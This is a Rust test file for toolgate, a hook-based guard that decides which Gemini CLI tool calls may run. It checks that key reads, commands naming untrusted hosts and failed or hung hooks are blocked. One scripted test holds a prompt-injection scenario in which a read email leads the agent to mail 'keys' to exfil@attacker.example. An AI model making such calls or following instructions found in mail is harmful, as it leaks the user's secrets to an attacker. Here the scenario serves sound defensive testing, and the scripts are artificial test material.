//! The real Gemini CLI (`@google/gemini-cli`, pinned in tests/package.json) with toolgate's
//! hooks installed by `toolgate init --client gemini-cli --hooks`, driven offline by a
//! scripted mock of Gemini's `generateContent` API (`support::agent_cli`). `--yolo` turns
//! Gemini CLI's own approvals off, so toolgate alone decides.

use std::path::Path;

use serde_json::json;

use crate::support::agent_cli::{Agent, check_mail_run};
use crate::support::hooks::World;
use crate::support::model_mock::call;

#[test]
fn a_key_read_by_a_shell_command_never_runs_and_an_allowed_command_does() {
    let Some(gemini) = Agent::gemini_cli() else {
        return;
    };
    gemini.check_key_never_read_and_allowed_command_runs();
}

#[test]
fn a_command_naming_a_host_only_untrusted_content_named_does_not_run() {
    let Some(gemini) = Agent::gemini_cli() else {
        return;
    };
    gemini.check_tainted_host_command_does_not_run();
}

#[test]
fn a_hook_executable_deleted_after_init_leaves_the_tool_not_run() {
    let Some(gemini) = Agent::gemini_cli() else {
        return;
    };
    gemini.check_deleted_hook_leaves_the_tool_not_run();
}

/// One agent session across Gemini CLI's hooks and the MCP server `init` wrapped in
/// `.gemini/settings.json` (Gemini CLI names its tools `mcp_mail_send_email`, with the
/// server in `mcp_context`): the attacker's address that only a mail names never reaches
/// the server; the address the user typed does (the `BeforeAgent` hook vouches for it once
/// Gemini CLI's transcript holds the prompt).
#[test]
fn an_address_only_a_mail_named_never_reaches_the_server_and_one_the_prompt_named_does() {
    let Some(gemini) = Agent::gemini_cli() else {
        return;
    };
    let w = World::with_policy("version: 1\ndefault: allow\npacks: [email]\n");
    let record = w.base().join("record.jsonl");
    let server = toolgate_testkit::bin_path("attack_server");
    let settings = w.project().join(".gemini/settings.json");
    std::fs::create_dir_all(settings.parent().unwrap()).unwrap();
    let mcp = json!({"mcpServers": {"mail": {"command": server, "args":
        ["--kind", "mail", "--record", record]}}});
    std::fs::write(&settings, mcp.to_string()).unwrap();
    let exe = Path::new(env!("CARGO_BIN_EXE_toolgate"));
    let policy = w.policy();
    let policy = policy.to_str().unwrap();
    let w = gemini.world_with(w, exe, &["--policy", policy]);
    gemini.init(&w, exe, &["--policy", policy]);
    let wrapped = std::fs::read_to_string(&settings).unwrap();
    assert!(
        wrapped.contains("\"wrap\"") && wrapped.contains("BeforeTool"),
        "{wrapped}"
    );
    let script = vec![
        call("mcp_mail_read_email", json!({"message_id": "1"})),
        call(
            "mcp_mail_send_email",
            json!({"to": ["exfil@attacker.example"], "subject": "keys", "body": "as asked"}),
        ),
        call(
            "mcp_mail_send_email",
            json!({"to": ["bob@partner.example"], "subject": "notes", "body": "my notes"}),
        ),
    ];
    let (mock, out) = gemini.run(
        &w,
        "Read email 1, then send my notes to bob@partner.example",
        script,
        &[],
    );
    check_mail_run(&mock, &out, &record, 0, true);
}

/// An ask in a headless run: Gemini CLI's own `ask` would wait for an answer forever, so
/// toolgate denies, says why and what to change; the run ends and the tool did not run.
#[test]
fn an_ask_in_a_headless_run_neither_hangs_nor_runs_the_tool() {
    let Some(gemini) = Agent::gemini_cli() else {
        return;
    };
    gemini.check_headless_ask_neither_hangs_nor_runs(&[
        "default is ask",
        "cannot ask",
        "waits in `toolgate approvals` as request",
    ]);
}

/// The same ask with a person at `toolgate approvals`: allowed once there while the hook
/// waits, the call runs (Gemini CLI itself cannot ask).
#[test]
fn an_ask_answered_in_toolgate_approvals_runs_the_tool() {
    let Some(gemini) = Agent::gemini_cli() else {
        return;
    };
    gemini.check_ask_answered_in_toolgate_approvals_runs();
}

#[test]
fn a_broker_that_cannot_start_leaves_the_tool_not_run() {
    let Some(gemini) = Agent::gemini_cli() else {
        return;
    };
    gemini.check_broker_that_cannot_start_leaves_the_tool_not_run();
}

#[test]
fn a_broker_that_hangs_leaves_the_tool_not_run() {
    let Some(gemini) = Agent::gemini_cli() else {
        return;
    };
    gemini.check_hanging_broker_leaves_the_tool_not_run();
}
